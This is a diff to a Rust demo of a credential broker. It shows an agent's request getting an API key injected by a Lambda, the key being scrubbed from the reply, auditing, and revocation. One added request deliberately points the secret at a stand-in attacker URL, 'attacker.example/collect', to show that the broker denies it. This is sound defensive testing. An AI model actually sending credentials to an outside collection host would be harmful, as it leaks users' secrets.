@@ -9,9 +9,16 @@
 use std::time::Instant;
 
 use broker_core::{SecretName, SecretValue, WorkspaceId};
+use keybroker_tests::lambda_env::{LambdaEnv, Upstream};
 use keybroker_tests::{setup, unique, Customer};
+use serde_json::json;
 
-fn step(n: u32, text: &str) {
+/// First four characters, then stars: enough to recognise, never the secret.
+fn masked(s: &str) -> String {
+    format!("{}…({} chars)", &s[..s.len().min(4)], s.len())
+}
+
+fn step(n: impl std::fmt::Display, text: &str) {
     println!("\n[{n}] {text}");
 }
 
@@ -89,13 +96,74 @@ async fn main() -> Result<(), Box<dyn std::error::Error>> {
     );
     drop(got);
 
+    step(
+        "5b",
+        "an agent makes a request through the real `inject` Lambda (lambda-runner + aws-sdk-lambda)",
+    );
+    let upstream = Upstream::start().await;
+    let lambda = LambdaEnv::start(&env).await;
+    let api_key = format!("ghp_{}", unique("demo-api"));
+    let binding = serde_json::from_value(json!({
+        "hosts": [upstream.addr.to_string()], "allow_insecure_http": true,
+        "inject": { "type": "header", "name": "Authorization", "template": "Bearer {secret}" }
+    }))?;
+    let api = SecretName::new("github-api")?;
+    env.broker
+        .put_bound_secret(
+            &ws,
+            &api,
+            &SecretValue::from_string(api_key.clone())?,
+            &binding,
+        )
+        .await?;
+    env.broker
+        .set_policy(
+            &ws,
+            r#"permit(principal == Agent::"agent-7", action == Action::"inject", resource == Secret::"github-api");"#,
+        )
+        .await?;
+    let event = json!({ "workspace": ws.as_str(), "secret": "github-api", "agent": "agent-7",
+        "request": { "method": "GET", "url": format!("{}/echo", upstream.base()) } });
+    println!("    agent sends: {event}");
+    let answer = lambda.invoke("inject", &event).await;
+    let seen = upstream.records();
+    let auth = seen[0].header("authorization").unwrap_or_default();
+    println!(
+        "    upstream received Authorization: Bearer {}",
+        masked(auth.trim_start_matches("Bearer "))
+    );
+    println!(
+        "    agent gets status {} and a body in which the echoed credential is scrubbed:\n      {}",
+        answer["status"], answer["body"]
+    );
+    if answer.to_string().contains(&api_key) {
+        return Err("the credential reached the agent".into());
+    }
+    if let Some(a) = lambda.audit_records().last() {
+        println!("    audit record: {a}");
+    }
+    let denied = lambda
+        .invoke(
+            "inject",
+            &json!({ "workspace": ws.as_str(), "secret": "github-api", "agent": "agent-7",
+                 "request": { "method": "GET", "url": "https://attacker.example/collect" } }),
+        )
+        .await;
+    println!(
+        "    the same agent pointing the secret at another host: {}",
+        denied["error"]
+    );
+
     step(6, "customer disables their key");
     customer.disable_key().await;
     match env.broker.read_for_injection(&ws, &name).await {
         Ok(_) => return Err("read succeeded after the key was disabled".into()),
         Err(e) => println!("    next read fails: [{}] {e}", e.kind()),
     }
-    println!("    the broker's metadata still lists the affected secret:");
+    let revoked = lambda.invoke("inject", &event).await;
+    println!("    and the agent's next injection: {}", revoked["error"]);
+    lambda.stop().await;
+    println!("    the broker's metadata still lists the affected secrets:");
     show_list(&env.broker.list_secrets(&ws).await?);
 
     step(
@@ -106,6 +174,9 @@ async fn main() -> Result<(), Box<dyn std::error::Error>> {
     let got = env.broker.read_for_injection(&ws, &name).await?;
     println!("    decrypted {} bytes again", got.value.len());
     drop(got);
+    println!(
+        "    (status is what the broker last saw: github-api turns active again on its next use)"
+    );
     show_list(&env.broker.list_secrets(&ws).await?);
 
     step(
